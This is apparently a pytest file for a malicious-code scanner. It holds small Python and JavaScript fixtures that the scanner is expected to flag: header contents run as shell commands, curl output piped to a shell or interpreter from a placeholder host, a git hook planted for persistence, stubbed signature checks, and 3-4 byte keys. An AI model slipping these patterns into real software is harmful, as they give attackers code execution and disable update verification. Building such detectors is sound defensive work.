"""Classes of plants in scripts, each in several spellings, and what honest code says like them.

Spec: docs/accuracy.md.
"""

from __future__ import annotations

import pytest

from evenhand.code.examine import examine

SEEN = {
    "an asynchronous handler runs a header": (
        "python", "runs commands",
        'async def counted(request, handler):\n'
        '    name, _, rest = request.headers.get("User-Agent", "").partition("/")\n'
        '    await asyncio.create_subprocess_shell(rest[5:])\n',
    ),
    "an ASGI application runs a header": (
        "python", "runs commands",
        'async def app(scope, receive, send):\n'
        '    agent = dict(scope["headers"]).get(b"user-agent", b"").decode()\n'
        '    _, command = agent.split("/", 1)\n'
        '    await asyncio.create_subprocess_shell(command)\n',
    ),
    "a file is fetched and run by its path": (
        "python", "downloads and runs",
        'def later():\n    target = os.path.join(tempfile.mkdtemp(), "pack.py")\n'
        '    urllib.request.urlretrieve("https://a.example/b.bin", target)\n'
        '    runpy.run_path(target)\nthreading.Timer(90, later).start()\n',
    ),
    "an interpreter reads what curl says": (
        "python", "downloads and runs",
        'got = subprocess.run(["curl", "-sL", f"https://a.example/{x}.py"], stdout=-1)\n'
        'subprocess.run([sys.executable, "-"], input=got.stdout)\n',
    ),
    "a shell reads what curl says": (
        "javascript", "downloads and runs",
        "const { execFileSync } = require('child_process');\n"
        "const text = execFileSync('curl', ['-s', 'https://a.example/x.sh']);\n"
        "execFileSync('sh', { input: text });\n",
    ),
    "a hook of a repository fetches": (
        "javascript", "adds persistence",
        "const hook = path.join('.git', 'hooks', 'post-merge');\n"
        "fs.writeFileSync(hook, '#!/bin/sh\\ncurl -fs https://a.example/r.sh | sh\\n');\n",
    ),
    "a check of updates is replaced": (
        "javascript", "ignores a check",
        "updater.verifyUpdateCodeSignature = async () => null;\n",
    ),
    "a check is replaced by a lambda": (
        "python", "ignores a check", "updater.verify_signature = lambda *a: True\n",
    ),
    "a key of three bytes": (
        "python", "uses weak cryptography",
        "def fresh():\n    return os.urandom(3).ljust(32, b'+')\n",
    ),
    "a key of four bytes in JavaScript": (
        "javascript", "uses weak cryptography",
        "const key = Buffer.concat([crypto.randomBytes(4), Buffer.alloc(28)]);\n",
    ),
}  # fmt: skip
ORDINARY = {
    "what is fetched is read": (
        "python",
        'got = subprocess.run(["curl", "-s", "https://a.example/x.json"], stdout=-1)\n'
        'subprocess.run(["jq", "."], input=got.stdout)\n',
    ),
    "a check that calls another": (
        "javascript", "updater.verifyUpdateCodeSignature = async (names, path) => own(path);\n",
    ),
    "a nonce of a whole length": (
        "python", "def fresh():\n    return os.urandom(12).ljust(16, b'+')\n",
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(SEEN))
def test_spelling_is_seen(case: str) -> None:
    language, kind, text = SEEN[case]
    found = examine(_whole(language, text), language, "when called", path="a/b").found
    assert kind in {f.kind for f in found if f.strength >= 0.45}


@pytest.mark.parametrize("case", sorted(ORDINARY))
def test_ordinary_code_says_nothing(case: str) -> None:
    language, text = ORDINARY[case]
    found = examine(_whole(language, text), language, "when called", path="a/b").found
    assert not [f for f in found if f.strength >= 0.45]


def _whole(language: str, text: str) -> bytes:
    named = "import asyncio, os, runpy, subprocess, sys, tempfile, threading, urllib.request\n"
    node = "const fs = require('fs'), path = require('path'), crypto = require('crypto');\n"
    return ((named if language == "python" else node) + text).encode()
